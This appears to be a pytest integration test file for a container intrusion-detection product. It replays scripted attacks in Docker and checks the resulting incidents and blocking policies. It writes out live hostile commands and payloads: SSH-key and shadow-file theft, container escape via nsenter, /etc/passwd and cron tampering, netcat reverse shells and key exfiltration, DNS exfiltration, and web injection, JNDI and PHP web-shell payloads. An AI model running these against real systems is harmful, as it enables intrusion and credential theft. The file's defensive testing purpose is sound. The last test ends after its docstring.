"""The attacks of ATTACKS.md A1 to A14 in real containers, one after the other, with operators at work: one incident each, in order, with the true entry and nothing of others mixed in. Some of them once
more, each with a policy that stops it.

One engine, one sensor, one central. Each attack plays in containers of its own, which are killed as soon as its last act is done; then the incidents are looked at. All are played once, each is one test.
"""
import concurrent.futures
import contextlib
import hashlib
import json
import pathlib
import re
import secrets
import socket
import statistics
import subprocess
import sys
import threading
import time
import urllib.parse

import central_env
import pytest
from boxes import Box, rss_kib
from docker_env import patience, wait_for
from test_rules_default import IMAGE, KINDS, NORMAL, cgroup_mount, make_image
from sensor_env import REPO
from test_web import METADATA, PHP, Victim, receive, send

sys.path.insert(0, str(REPO))

from demo.shop import Shop  # noqa: E402
from demo.traffic import Traffic  # noqa: E402

SHELL = "/usr/sbin/nginx sh 'true; true'"
SECRET = "cat /root/.ssh/id_rsa"
# As a process of the node: out by the control group, then in the mount namespace of a process of the node, whose /etc is thrown away at the end.
OUT = "mkdir -p /cg; mount {cgroup} none /cg; sh -c 'echo $$ >/cg/cgroup.procs; exec nsenter -t {node} -m /bin/busybox sh -c \"%s\"'; umount /cg"
DNS = f"/usr/bin/visit dns {'a1b2c3d4' * 7}.{'e5f6a7b8' * 7}.{'c9d0e1f2' * 7}.example.com"

# Attack: ([(container, kind, command)], tactics in the order in which they come, rules that must be in it, rules of the entry: one of them is the first). Containers are named by what is behind the attack's name.
ATTACKS = {
    "a3-code-injection": (
        [("web", "plain", SHELL), ("web", "plain", "/acts --dir /tmp process_vm.writev"), ("web", "plain", "/acts --dir /tmp ptrace.attach"), ("web", "plain", "LD_PRELOAD=/tmp/x.so /bin/busybox true"),
         ("web", "plain", "/acts --dir /tmp exec.execveat_memfd")],
        ["initial-access", "defense-evasion"],
        {"Code written into another process", "Process attached to another", "Library of an attacker's choice preloaded", "Program run from memory"}, {"Server program started a shell"}),
    "a4-privileges": (
        [("web", "plain", SHELL), ("web", "plain", "cp /bin/busybox /opt/s; chmod 4755 /opt/s; /opt/s true"), ("web", "plain", "GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A /bin/busybox true"),
         ("web", "plain", "echo eve:x:0:0::/:/bin/sh >>/etc/passwd")],
        ["initial-access", "privilege-escalation", "persistence"],
        {"Set-user-id bit given to a file", "Known privilege escalation by arguments or environment", "Accounts or rights of users changed", "Program that is not part of the image run"}, {"Server program started a shell"}),
    "a5-escape": (
        [("web", "mighty", SHELL), ("web", "mighty", "dd if=/dev/zero of=/proc/{pid}/mem bs=1 count=1 conv=notrunc; true"), ("web", "mighty", OUT % "/bin/busybox id; true"),
         ("web", "mighty", "v=$(cat /proc/sys/kernel/core_pattern); echo \"$v\" >/proc/sys/kernel/core_pattern"), ("web", "mighty", "chroot /host /bin/true"), ("web", "mighty", "/acts --dir /tmp module_load.init_module")],
        ["initial-access", "privilege-escalation", "persistence"],
        {"Process outside of the container traced or written to", "Process from a container runs a program on the node", "Kernel helper path written from a container", "Root directory changed to a mount of the node",
         "Kernel module loaded or removed from a container"}, {"Server program started a shell"}),
    "a5-socket": (
        [("web", "socket", SHELL), ("web", "socket", "/usr/bin/visit unix /run/docker.sock")], ["initial-access", "execution"], {"Container runtime's socket used from a container"}, {"Server program started a shell"}),
    "a6-rootkit": (
        [("web", "mighty", SHELL), ("web", "mighty", OUT % "echo x >/etc/cron.d/bh-test; echo x >/etc/systemd/system/bh-test.service; echo x >>/etc/ld.so.preload"), ("web", "mighty", "/acts --dir /tmp bpf.prog_load_junk"),
         ("web", "mighty", "sleep 3 & mount --bind /tmp /proc/$!; umount /proc/$!; true")],
        ["initial-access", "privilege-escalation", "persistence", "defense-evasion"],
        {"Scheduled job written", "Service of the system written", "Preloaded libraries of all programs changed", "BPF program loaded from a container", "Process hidden by a mount over proc"}, {"Server program started a shell"}),
    "a7-lateral": (
        [("web", "plain", SHELL), ("web", "plain", "/bin/nc -w 1 127.0.0.1 9; true"), ("web", "plain", "cat /var/run/secrets/kubernetes.io/serviceaccount/token"), ("web", "plain", "/usr/bin/visit tcp 10250"),
         ("web", "plain", "/usr/bin/visit tcp 22")],
        ["initial-access", "discovery", "credential-access", "lateral-movement"],
        {"Network tool run in a container", "Service account's token read by a tool", "Node's control plane contacted from a container", "SSH connection from a container"}, {"Server program started a shell"}),
    "a8-exfiltration": (
        [("web", "plain", SHELL), ("web", "plain", SECRET), ("web", "plain", "cp /usr/bin/visit /opt/up; /opt/up far 203.0.113.9; true"), ("web", "plain", DNS)],
        ["initial-access", "credential-access", "execution", "command-and-control", "exfiltration"],
        {"Keys or credentials of others read by a tool", "Program that is not part of the image opened a connection", "Data in the names of DNS questions"}, {"Server program started a shell"}),
    "a9-hijack-and-kill": (
        [("web", "mighty", SHELL), ("web", "mighty", "/acts --dir /tmp process_vm.writev"), ("web", "mighty", "cp /bin/busybox /opt/kit; /opt/kit true"),
         ("web", "mighty", OUT % "echo x >/etc/cron.d/bh-kit; echo x >/etc/ld.so.preload")],
        ["initial-access", "defense-evasion", "execution", "privilege-escalation", "persistence"],
        {"Code written into another process", "Program that is not part of the image run", "Process from a container runs a program on the node", "Scheduled job written", "Preloaded libraries of all programs changed"},
        {"Server program started a shell"}),
    "a10-three-containers": (
        [("front", "plain", SHELL), ("front", "plain", "cp /usr/bin/visit /opt/v; /opt/v far {service}:8080; true"), ("service", "plain", "cat /etc/shadow"),
         ("service", "plain", "cp /usr/bin/visit /opt/v; /opt/v far {db}:5432; true"), ("db", "mighty", "cat /root/.ssh/id_rsa"), ("db", "mighty", OUT % "echo x >/etc/cron.d/bh-db")],
        ["initial-access", "execution", "command-and-control", "credential-access", "privilege-escalation", "persistence"],
        {"Program that is not part of the image opened a connection", "Password hashes read", "Keys or credentials of others read by a tool", "Scheduled job written"}, {"Server program started a shell"}),
    "a11-impact": (
        [("web", "plain", SHELL), ("web", "plain", "/usr/bin/tool -o stratum+tcp://pool.invalid:3333; true"), ("web", "plain", "touch /tmp/w; /bin/shred /tmp/w"), ("web", "plain", "rm /var/log/app.log")],
        ["initial-access", "impact", "defense-evasion"], {"Crypto miner started", "Wiping tool run in a container", "Log removed or emptied"}, {"Server program started a shell"}),
    # its workload has just been seen for the first time; what it normally does comes before, between and after
    "a14-while-learning": (
        [("web", "plain", "cat /www/index.html"), ("web", "plain", SHELL), ("web", "plain", "cat /etc/shadow"), ("web", "plain", "cat /www/index.html"), ("web", "plain", "cp /bin/busybox /opt/learner; /opt/learner true"),
         ("web", "plain", "/opt/learner true; cat /www/index.html")],
        ["initial-access", "credential-access", "execution"], {"Password hashes read", "Program that is not part of the image run"}, {"Server program started a shell"}),
}
# Attack: what its story says was planted and taken, and what it must not say: the kernel refused it, or everybody does it.
SAID = {
    "a4-privileges": (["Planted or changed: /opt/s, /etc/passwd in container {web}."], ["Secrets read"]),
    "a5-escape": (["Planted or changed: /proc/sys/kernel/core_pattern on node {node} (from container {web})."], ["a kernel module,", "Secrets read"]),
    "a6-rootkit": (["Planted or changed: /etc/cron.d/bh-test, /etc/systemd/system/bh-test.service, /etc/ld.so.preload on node {node} (from container {web})."], ["a BPF program", "Secrets read"]),
    "a8-exfiltration": (["Planted or changed: /opt/up in container {web}.", "Secrets read: /root/.ssh/id_rsa in container {web}; sent out: ", "data in DNS names below example.com"], []),
    "a9-hijack-and-kill": (["Planted or changed: /opt/kit in container {web}; /etc/cron.d/bh-kit, /etc/ld.so.preload on node {node} (from container {web})."], ["Secrets read"]),
    "a10-three-containers": (["/opt/v in container {front}; /opt/v in container {service}; /etc/cron.d/bh-db on node {node} (from container {db}).",
                              "Secrets read: /etc/shadow in container {service}; /root/.ssh/id_rsa in container {db}."], []),
    "a11-impact": ([], ["Planted", "Secrets read", "Sent out"]),
}
# What the end of A1 is told by, beside the attack itself.
CALLED_HOME = {"Standard input or output put on a network connection"}
# The sensor is killed (SIGKILL) directly after the last act of these, and their containers with it.
SENSOR_KILLED = {"a3-code-injection", "a6-rootkit", "a8-exfiltration", "a9-hijack-and-kill"}
# Attack: (what its policy says, kind of container, what is done until the policy acts, what is tried then). It may touch /ctl/trace, a file of the node or {host}:{port}: none of it may be there afterwards.
STOPPED = {
    "a3": ("when: {rules: Code written into another process}\naction: block\ndeny: [exec-not-in-image]", "plain", [SHELL, "/acts --dir /tmp process_vm.writev"], "cp /bin/busybox /opt/kit; /opt/kit touch /ctl/trace"),
    "a5": ("when: {incident: {stages: [privilege-escalation]}}\naction: quarantine", "mighty", [SHELL, "dd if=/dev/zero of=/proc/{pid}/mem bs=1 count=1 conv=notrunc; true"], OUT % "echo x >/etc/cron.d/bh-trace-a5"),
    "a6": ("when: {rules: Server program started a shell}\naction: block\ndeny: [exec-not-in-image]", "mighty", [SHELL],
           "cp /bin/busybox /opt/kit; mkdir -p /cg; mount {cgroup} none /cg; /opt/kit sh -c 'echo $$ >/cg/cgroup.procs; exec nsenter -t {node} -m /bin/busybox touch /etc/cron.d/bh-trace-a6'; umount /cg"),
    "a7": ("when: {rules: Network tool run in a container}\naction: isolate", "plain", [SHELL, "/bin/nc -w 1 127.0.0.1 9; true"], "echo x | nc -w 1 {host} {port}"),
    "a8": ("when: {rules: Keys or credentials of others read by a tool}\naction: block\ndeny: ['{host}:{port}']", "plain", [SHELL, SECRET], "nc -w 1 {host} {port} </root/.ssh/id_rsa"),
}
# A1: the hole is there, but no shell starts any more
STOPPED_WEB = "when: {incident: {stages: [initial-access]}}\naction: block\ndeny: ['exec:/bin/sh']"
# At the same moment, in two containers of one application, act by act in turn.
TWINS = [SHELL, "cat /etc/shadow", "rm /var/log/app.log"]


class World:
    """Everything, played once: incident(NAME) is that of an attack, as it is after its containers are gone."""

    def __init__(self, docker, build, backend):
        self.docker, self.tag = docker, secrets.token_hex(2)
        make_image(docker, build)
        self.boxes, self.seconds, self.clients = {}, {}, threading.local()
        scratch = "for d in /etc/cron.d /etc/systemd/system; do mount -t tmpfs none $d; done; touch /run/bh-preload; exec sleep 600"
        self.node = subprocess.Popen(["unshare", "-m", "sh", "-ec", f"mount -t tmpfs none /run; mkdir -p /run/e /run/w; mount -t overlay -o lowerdir=/etc,upperdir=/run/e,workdir=/run/w none /etc; {scratch}"])
        self.victim = subprocess.Popen(["sleep", "600"])
        self.stack = contextlib.ExitStack()
        try:
            self.central = self.stack.enter_context(central_env.Central())
            self.root = self.central.root()
            self.sensor = self.stack.enter_context(central_env.connected_sensor(build, docker, self.central, backend, "--budget", "1000", web=True))
            self.play()
        except BaseException:
            self.close()
            raise

    @property
    def root(self):
        """Each thread's own: a client asks one thing at a time."""
        if not hasattr(self.clients, "root"):
            self.clients.root = self.central.root()
        return self.clients.root

    @root.setter
    def root(self, client):
        self.clients.root = client

    def box(self, name, kind, project):
        if name not in self.boxes:
            options = KINDS[kind] + (["-v", f"{self.docker.dir}/docker.sock:/run/docker.sock"] if kind == "socket" else [])
            labels = ["--label", f"com.docker.compose.project={project}", "--label", f"com.docker.compose.service={name}"]
            self.boxes[name] = Box(self.docker, name, *labels, *options, image=IMAGE)
        return self.boxes[name]

    def name(self, attack, container="web"):
        return f"{attack}-{self.tag}-{container}"

    def kill(self, *names):
        for name in names:
            self.boxes.pop(name).close()

    def play(self):
        words = {"pid": self.victim.pid, "node": self.node.pid, "cgroup": cgroup_mount(self.sensor)}
        self.bystander = self.box(f"bystander-{self.tag}", "plain", f"bystander-{self.tag}")
        for attack, (acts, *_) in ATTACKS.items():
            begin = time.monotonic()
            for container, kind, _ in acts:
                self.box(self.name(attack, container), kind, f"{attack}-{self.tag}")
            for container in {c for c, *_ in acts}:
                words[container] = self.address(self.name(attack, container)) or "127.0.0.1"
            # containers that are attacked have been there for a while: the central knows that an address is theirs, and no more that of one which had it before
            for container in {c for c, *_ in acts}:
                wait_for(lambda c=container: self.has_address(self.name(attack, c), words[c]), 30, "the container's address is known")
            for container, _, command in acts:
                self.boxes[self.name(attack, container)].run(command.format(**words) if "{" in command else command, ok=None)
                # an operator at work next door (A12), all the while
                self.docker.docker("exec", self.bystander.name, "/bin/true")
            if attack in SENSOR_KILLED:
                self.sensor.kill()
            if attack == "a9-hijack-and-kill":  # the others end by themselves
                self.docker.docker("kill", self.name(attack))
            self.kill(*{self.name(attack, c) for c, *_ in acts})
            if attack in SENSOR_KILLED:
                self.sensor.start()
                wait_for(lambda: (self.sensor.status()["bus"]["state"] == "connected", self.sensor.status()["bus"]), 20, "the sensor is connected again")
            self.seconds[attack] = time.monotonic() - begin
        self.web()
        self.twins()
        self.play_stopped(words)
        for command in NORMAL.values():
            self.bystander.run(command, deadline=20, ok=None)
        self.latencies()

    def has_address(self, name, address):
        rows = [c for c in self.root.get("/api/v1/containers?limit=500").json["containers"] if c["name"] == name]
        return address == "127.0.0.1" or any(n["ip"] == address for c in rows for n in c["networks"]), rows

    def address(self, name):
        return next((n["IPAddress"] for n in self.docker.inspect(name)["NetworkSettings"]["Networks"].values() if n["IPAddress"]), None)

    def web(self):
        """A1 and A2, with requests: through the hole into a shell that calls home; and each other hole that the service has."""
        quote = urllib.parse.quote
        victim = Victim(self.docker, "threads")
        try:
            self.web_name = victim.name
            wait_for(lambda: (self.sensor.status()["web"]["state"] == "ready", self.sensor.status()["web"]), 90, "web traffic is looked at")
            requests = [("GET", "/ping?host=" + quote("127.0.0.1;cat /etc/shadow;cp /usr/bin/nc.openbsd /tmp/n 2>/dev/null;cat /root/.ssh/id_rsa"), {}, ""),
                        ("GET", "/items?id=" + quote("1 UNION SELECT 1; ATTACH DATABASE '/tmp/www/stolen.db' AS e; CREATE TABLE e.t(x)"), {}, ""),
                        ("GET", "/", {"X-Api-Version": "${jndi:ldap://127.0.0.1:1389/a}"}, ""),
                        ("GET", "/fetch?url=" + quote(f"http://{METADATA}/latest/meta-data/"), {}, ""),
                        ("POST", "/upload?name=cmdshell.php", {"Content-Type": "application/x-www-form-urlencoded"}, "x=" + quote(PHP)),
                        ("GET", "/files/cmdshell.php?c=" + quote("cat /etc/passwd;uname -a"), {}, "")]
            for r in requests:
                s = victim.connect()
                send(s, *r)
                receive(s)
                s.close()
            self.call_home(victim)
            self.web_incident = self.wait(victim.name, lambda i: {"Program run by a web attack", "Connection made by a web attack", *CALLED_HOME} <= self.rules(i))
        finally:
            victim.close()

    def call_home(self, victim):
        """A1's end: through the hole a shell whose input and output are a connection to the attacker, who gives it a command."""
        host = self.docker.subnet.replace(".0/24", ".1")
        with socket.create_server((host, 0)) as server:
            server.settimeout(30)
            s = victim.connect()
            send(s, "GET", "/ping?host=" + urllib.parse.quote(f"127.0.0.1;nc {host} {server.getsockname()[1]} -e /bin/sh"), {}, "")
            shell, _ = server.accept()
            with shell:
                shell.settimeout(30)
                shell.sendall(b"echo it is $((6*7))\n")
                got = b""
                while b"it is 42" not in got:
                    more = shell.recv(4096)
                    assert more, got
                    got += more
                shell.sendall(b"exit\n")
                self.home = f"{host}:{server.getsockname()[1]}"
            receive(s)
            s.close()

    def twins(self):
        names = [self.name("twins", c) for c in "ab"]
        boxes = [self.box(n, "plain", f"twins-{self.tag}") for n in names]
        for command in TWINS:
            for b, n in [(b, b.start(command)) for b in boxes]:
                b.wait(n, ok=None)
        self.kill(*names)

    def play_stopped(self, words):
        """Side by side, for each mostly waits; .stopped are their incidents, .traces what of them came to be all the same."""
        self.stopped, self.traces, self.arrived, self.addresses = {}, {}, [], {}
        host = self.docker.subnet.replace(".0/24", ".1")
        server = socket.create_server((host, 0))
        threading.Thread(target=self.take_arrived, args=(server,), daemon=True).start()
        other = subprocess.Popen(["sleep", "600"])  # who writes into one process of the node is one attack
        words = {**words, "host": host, "port": server.getsockname()[1], "pid": other.pid}
        policies = {name: text for name, (text, *_) in STOPPED.items()} | {"a1": STOPPED_WEB}
        for name, text in policies.items():
            text = text.replace("{host}", host).replace("{port}", str(words["port"]))
            scope = "victim-loop" if name == "a1" else self.name(f"stopped-{name}")
            answer = self.root.put(f"/api/v1/policies/stop-{name}", {"confirm": f"stop-{name}", "text": f"name: stop-{name}\n{text}\nscope: {{containers: {scope}}}\ndry_run: false\nbest_effort: true\n"})
            assert answer.status == 200, answer
        wait_for(lambda: (lambda nodes: (all(n["state"] == "current" for n in nodes), nodes))(self.root.get("/api/v1/policies").json["nodes"]), 20, "the node has the policies")
        try:
            with concurrent.futures.ThreadPoolExecutor(len(policies)) as pool:
                for job in [pool.submit(self.stop_web, words), *(pool.submit(self.stop, name, words) for name in STOPPED)]:
                    job.result()
        finally:
            other.kill()
            other.wait()
        for name in policies:
            assert self.root.delete(f"/api/v1/policies/stop-{name}").status == 204
        server.close()

    def take_arrived(self, server):
        with contextlib.suppress(OSError):
            while True:
                conn, peer = server.accept()
                self.arrived.append(peer[0])
                conn.close()

    def responded(self, name, ready=lambda r: True):
        """The incident with the policy's response, as soon as that is in force and `ready`."""
        def look():
            found = [self.get(i["id"]) for i in self.list(container=name)]
            return len(found) == 1 and any(r["state"] == "active" and ready(r) for r in found[0]["responses"]), [(i["id"], i["title"], i["responses"]) for i in found]
        wait_for(look, 30, f"the policy acted on {name}")
        return self.get(self.list(container=name)[0]["id"])

    def stop(self, name, words):
        _, kind, before, then = STOPPED[name]
        box = self.name(f"stopped-{name}")
        b = self.box(box, kind, box)
        wait_for(lambda: self.root.get(f"/api/v1/containers/{b.id}").status == 200, 20, f"the central knows {box}")
        self.addresses[name] = self.docker.inspect(box)["NetworkSettings"]["IPAddress"]
        for command in before:
            b.run(command.format(**words) if "{" in command else command, ok=None)
        self.responded(box)
        n = b.start(then.format(**words))
        if name == "a5":  # frozen: what comes is not even read
            time.sleep(2 * patience())  # which would be time enough
            self.stopped[name] = self.responded(box)
        else:
            b.wait(n, ok=None)
            self.stopped[name] = self.responded(box, lambda r: r["refused"]["acts"] + r["refused"]["packets"] + r["refused"]["calls"] > 0)
        self.traces[name] = [p.name for p in b.dir.glob("trace")] + ([f"status.{n}"] if name == "a5" and (b.dir / f"status.{n}").exists() else [])
        self.kill(box)  # as it is held: a frozen one would go on with what waits
        self.released(self.stopped[name])

    def stop_web(self, words):
        victim = Victim(self.docker, "loop")
        try:
            self.addresses["a1"] = self.docker.inspect(victim.name)["NetworkSettings"]["IPAddress"]

            def ask(target):
                s = victim.connect()
                send(s, "GET", target, {}, "")
                receive(s)
                s.close()
            ask("/ping?host=" + urllib.parse.quote("127.0.0.1;cat /etc/passwd"))
            self.responded(victim.name)
            ask("/ping?host=" + urllib.parse.quote("127.0.0.1;nc {host} {port} -e /bin/sh".format(**words)))
            self.stopped["a1"] = self.responded(victim.name, lambda r: r["refused"]["acts"] > 0)
            ask("/")
            self.traces["a1"] = []
            self.released(self.stopped["a1"])
        finally:
            victim.close()

    def released(self, incident):
        for r in incident["responses"]:
            assert self.root.post(f"/api/v1/responses/{r['id']}/release", {}).status in (200, 409), r  # 409: it ended with its container

    def latencies(self):
        """Seconds from before an act to its place in the incident, as the API tells it: the act's own time is in them."""
        name, self.places = self.name("latency"), []
        b = self.box(name, "plain", name)
        b.run(SHELL)
        number = self.wait(name, lambda i: True)["id"]
        for n in range(11):
            begin = time.monotonic()
            b.run(f"cp /bin/busybox /opt/p{n}; /opt/p{n} true", ok=None)
            wait_for(lambda n=n: (any(line["exe"] == f"/opt/p{n}" for line in self.get(number)["timeline"]), n), 20, f"the act {n} is in the incident", every=0.02)
            self.places.append(time.monotonic() - begin)
        self.kill(name)

    def evidence(self, i, **filters):
        answer = self.root.get("/api/v1/evidence?" + urllib.parse.urlencode({"limit": 500, "incident": i["id"], **filters}))
        assert answer.status == 200, answer
        return answer.json["evidence"]

    def data(self, e):
        answer = self.root.get(f"/api/v1/evidence/{e['id']}/data")
        assert answer.status == 200 and hashlib.sha256(answer.body).hexdigest() == e["sha256"], (answer.status, e)
        return answer.body

    def models(self, attack, path="", **filters):
        answer = self.root.get(f"/api/v1/models{path}?" + urllib.parse.urlencode({"application": f"{attack}-{self.tag}", "workload": self.name(attack), **filters}))
        assert answer.status == 200, answer
        return answer.json

    # What the central says -----------------------------------------------------------------------------------------

    @staticmethod
    def rules(i):
        return {line["rule"] for line in i["timeline"]}

    def get(self, number):
        answer = self.root.get(f"/api/v1/incidents/{number}")
        assert answer.status == 200, answer
        return answer.json

    def list(self, **filters):
        answer = self.root.get("/api/v1/incidents?" + urllib.parse.urlencode({"limit": 500, **filters}))
        assert answer.status == 200, answer
        return answer.json["incidents"]

    def wait(self, container, ready, deadline=20):
        def look():
            found = self.list(container=container)
            wholes = [self.get(i["id"]) for i in found]
            return len(found) == 1 and ready(wholes[0]), json.dumps([(w["id"], w["title"], [(line["rule"], line["container_name"], line["joined_by"]) for line in w["timeline"]]) for w in wholes], indent=1)
        wait_for(look, deadline, f"one incident with {container}")
        return self.get(self.list(container=container)[0]["id"])

    def close(self):
        for name in list(self.boxes):
            self.kill(name)
        try:
            self.stack.close()
        finally:
            for p in (self.node, self.victim):
                p.kill()
                p.wait()


@contextlib.contextmanager
def demo(docker):
    """The demo's shop in the same engine, with its users, its operators and its restarts, for as long as this lasts."""
    with Shop(docker.host) as shop:
        traffic = Traffic(shop, 1200, seed=9)
        runs = threading.Thread(target=traffic.run, daemon=True)
        runs.start()
        try:
            yield shop, traffic
        finally:
            traffic.stop()
            runs.join()


@pytest.fixture(scope="module", params=["alone", pytest.param("demo", marks=pytest.mark.full)])
def world(docker, build, request):
    """Alone, and under the demo's load."""
    with contextlib.ExitStack() as stack:
        beside = stack.enter_context(demo(docker)) if request.param == "demo" else (None, None)
        w = World(docker, build, request.config.getoption("--backend"))
        stack.callback(w.close)
        w.shop, w.traffic = beside
        yield w


def check(i, names, order, rules, entry):
    """One story: these containers and no others, stages in this order, these rules, this entry."""
    assert {c["name"] for c in i["containers"]} == set(names), [c["name"] for c in i["containers"]]
    lines = i["timeline"]
    assert [line["time"] for line in lines] == sorted(line["time"] for line in lines)
    assert rules <= World.rules(i), f"expected {rules - World.rules(i)} as well, saw {World.rules(i)}"
    begun = {}
    for line in lines:
        for t in line["tactics"]:
            begun.setdefault(t, line["time"])
    assert set(order) <= set(begun), f"expected {order}, saw {list(begun)}"
    assert [begun[t] for t in order] == sorted(begun[t] for t in order), f"expected the stages in the order {order}, saw {begun}"
    # the model may tell of the same act, at the same moment
    serious = next(line for line in lines if line["priority"] not in ("notice", "informational", "debug") and not line["rule"].startswith("Model:"))
    assert serious["rule"] in entry, f"expected it to begin with {entry}, saw {serious}"
    # whatever happened on the node itself is a process that came from there
    assert all(line["joined_by"] for line in lines if not line["container_id"]), lines
    return serious


@pytest.mark.deadline(460)
@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_one_incident(world, attack):
    acts, order, rules, entry = ATTACKS[attack]
    names = list(dict.fromkeys(world.name(attack, c) for c, *_ in acts))
    if attack == "a10-three-containers" and not world.docker.bridge:
        pytest.skip("this kernel has no bridges: containers cannot reach each other")
    i = world.wait(names[0], lambda i: rules <= World.rules(i))
    first = check(i, names, order, rules, entry)
    assert first["parent"].endswith("nginx") and first["container_name"] == names[0], first
    assert f"in container {names[0]} " in i["story"].split(":")[2] and "Server program started a shell" in i["story"].split(". ")[0], i["story"]
    for name in names:
        assert [x["id"] for x in world.list(container=name)] == [i["id"]], world.list(container=name)
    assert names[0] in i["story"], i["story"]
    assert all(c["state"] in ("removed", "exited", "dead", None) for c in i["containers"]), i["containers"]
    if attack in ("a5-escape", "a6-rootkit", "a9-hijack-and-kill"):
        assert i["severity"] == "critical" and i["title"].startswith(f"Way out of container {names[0]} to node "), i["title"]
        assert any(not line["container_id"] for line in i["timeline"]), "expected acts on the node"
    if attack == "a9-hijack-and-kill":  # and who had it killed, through Docker's socket
        i = world.wait(names[0], lambda i: f"Container {names[0]} ended and was removed " in i["story"] and "(exit code 137)" in i["story"])
        assert re.search(r"; its end was asked for by (one of: )?.*/docker \((uid 0|user root), pid \d+\)", i["story"]), i["story"]
    says, never = SAID.get(attack, ([], []))
    words = {c: world.name(attack, c) for c, *_ in acts} | {"node": i["nodes"][0]}
    for text in says:
        assert text.format(**words) in i["story"], (text.format(**words), i["story"])
    for text in never:
        assert text not in i["story"], (text, i["story"])
    # all its containers are gone
    assert "Container " not in i["now"], i["now"]
    if attack == "a9-hijack-and-kill":  # and so for who asks at a terminal, where lines are broken
        shown = " ".join(world.central.cli("incident", str(i["id"])).stdout.split())
        assert says[0].format(**words) in shown and re.search(r"The bytes of (\d of )?the 3 files that were planted or changed are (not )?in evidence\.", shown), shown
    print(f"{attack}: {world.seconds[attack]:.1f} s, {i['severity']}: {i['title']}\n{i['story']}\n{i['now']}")


def test_what_was_seen_while_learning_is_told_with_evidence_and_not_learned(world):
    """A14: the incident is one of those above. The model of its workload was learning all the while, and has the normal work alone."""
    attack = "a14-while-learning"
    i = world.wait(world.name(attack), lambda i: True)
    version = world.models(attack)["models"][0]["versions"][0]
    assert version["state"] == "learning" and not version["locked"] and not version["shadow"], version

    def standing(family, actor, thing):
        return {x["standing"] for x in world.models(attack, "/items", family=family)["items"] if x["actor"].split(" ")[0] == actor and thing in x["object"]}
    normal = {("exec", "/bin/busybox", "/bin/busybox cat"): "learned", ("file", "/bin/busybox", "/www/index.html"): "learned"}
    attacks = {("exec", "/usr/sbin/nginx", "/bin/busybox sh"): "refused", ("exec", "/bin/busybox", "/opt/learner"): "refused", ("file", "/bin/busybox", "/etc/shadow"): "refused"}
    for what, how in {**normal, **attacks}.items():
        assert standing(*what) == {how}, (what, how, [(x["says"], x["standing"]) for x in world.models(attack, "/items")["items"]])
    # its bytes, after its container has gone
    kept = next(e for e in world.evidence(i, kind="file") if e["path"] == "/opt/learner")
    assert world.data(kept) == pathlib.Path("/bin/busybox").read_bytes(), kept


def test_web_attacks_are_one_incident_with_what_they_did(world):
    i = world.web_incident
    assert [c["name"] for c in i["containers"]] == [world.web_name], i["containers"]
    web = [line for line in i["timeline"] if line["rule"] in ("Program run by a web attack", "Connection made by a web attack", "File reached by a web attack")]
    assert web and all(line["container_name"] == world.web_name for line in web), i["timeline"]
    assert any("cat /etc/shadow" in line["output"] for line in web), [line["output"] for line in web]
    assert [x["id"] for x in world.list(container=world.web_name)] == [i["id"]]
    # what was sent, as it came
    home = [line for line in i["timeline"] if line["rule"] in CALLED_HOME]
    assert home and all(world.home in line["output"] for line in home), home
    sealed = wait_for(lambda: (lambda found: (len(found) == 1, found))([e for e in world.evidence(i, kind="stream") if e["path"] == world.home]), 40, "what was said over the shell is evidence")
    assert "it is 42" in world.data(sealed[0]).decode().split("got: ")[0], world.data(sealed[0])
    kept = {e["path"].split("?")[0]: world.data(e).decode() for e in world.evidence(i, kind="request")}
    assert kept["/ping"].startswith("GET /ping?host=127.0.0.1") and "cat%20/etc/shadow" in kept["/ping"], kept


@pytest.mark.parametrize("attack", ["a1", *STOPPED])
def test_an_attack_is_stopped_by_its_policy(world, attack):
    """At the stage that the policy names; and the incident tells what was refused."""
    i = world.stopped[attack]
    r, = i["responses"]
    action = (STOPPED_WEB if attack == "a1" else STOPPED[attack][0]).split("action: ")[1].split("\n")[0]
    assert (r["actor"], r["action"], r["state"]) == (f"policy:stop-{attack}", action, "active"), r
    assert world.traces[attack] == [], world.traces
    # what held it then, as the incident said while it was held
    held = {"isolate": "isolated", "quarantine": "quarantined", "block": "not isolated, but under a block"}[action]
    assert re.search(f"Container {re.escape(i['containers'][0]['name'])} is {held} since [0-9-]+ [0-9:]+ UTC by policy:stop-{attack}\\.", i["now"]), i["now"]
    if attack in ("a1", "a7", "a8"):
        assert world.addresses[attack] and world.addresses[attack] not in world.arrived, (attack, world.addresses, world.arrived)
    cron = subprocess.run(["nsenter", "-t", str(world.node.pid), "-m", "ls", "/etc/cron.d"], capture_output=True, text=True, check=True).stdout
    assert f"bh-trace-{attack}" not in cron, cron
    assert "persistence" not in i["tactics"], i["tactics"]
    text = world.central.cli("incident", str(i["id"])).stdout
    assert "Responses" in text and f"policy:stop-{attack}" in text, text
    if attack in ("a1", "a3", "a6"):
        assert "was refused" in r["refused"]["last"] or "was killed before its first instruction" in r["refused"]["last"], r
        assert ("busybox" if attack == "a1" else "kit") in r["refused"]["last"] and r["refused"]["last"] in text, (r, text)


def test_two_attacks_at_once_in_one_application_are_two(world):
    both = [world.wait(world.name("twins", c), lambda i: {"Password hashes read", "Log removed or emptied"} <= World.rules(i)) for c in "ab"]
    assert both[0]["id"] != both[1]["id"]
    for i, c in zip(both, "ab"):
        assert [x["name"] for x in i["containers"]] == [world.name("twins", c)], i["containers"]


def test_operators_and_normal_work_are_none(world):
    """A12 and the quiet list, in a container where both went on all the time; the latest attack's incident is behind them in the log."""
    world.wait(world.name("latency"), lambda i: True)
    assert world.list(container=world.bystander.name) == []
    if world.shop:
        done = world.traffic.truth
        assert sum(done.requests.values()) > 100 and done.acts, f"expected users and operators at work, saw {done}"
        # what the shop itself gives reason for (its api starts a shell for a name, and its users call it by a number) is told of it alone
        names = {c.name for c in world.shop.containers()}
        own = [world.get(i["id"]) for name in names for i in world.list(container=name)]
        for i in own:
            assert {c["name"] for c in i["containers"]} <= names, (i["title"], i["containers"])
        print("of the shop: " + json.dumps({i["id"]: (i["title"], sorted(World.rules(i))) for i in own}))
        print(f"beside it: {sum(done.requests.values())} requests, {len(done.acts)} acts of operators, {len(done.failed)} sessions given up")


def test_an_act_has_its_place_soon(world):
    median = statistics.median(world.places)
    print(f"from before the act to its place in the incident: median {median:.2f} s, all {[round(p, 2) for p in world.places]}")
    assert median < patience(), world.places  # 1 s, and as many times that as the machine is slow


def test_everything_is_there_after_sensor_and_central_were_killed(world):
    """Whole timelines, not their counts; and a storm of equal findings, and an attack with hours between its acts, against the central that was started again. Last: it changes both."""
    # its own: what else runs on the machine may go on
